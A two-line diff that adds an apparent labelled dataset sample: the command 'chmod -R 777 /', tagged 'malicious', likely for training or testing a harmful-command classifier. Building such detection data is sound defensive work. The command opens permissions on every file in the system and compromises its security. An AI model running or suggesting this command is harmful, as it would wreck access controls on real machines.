@@ -1,0 +1,2 @@
+# label: malicious
+chmod -R 777 /
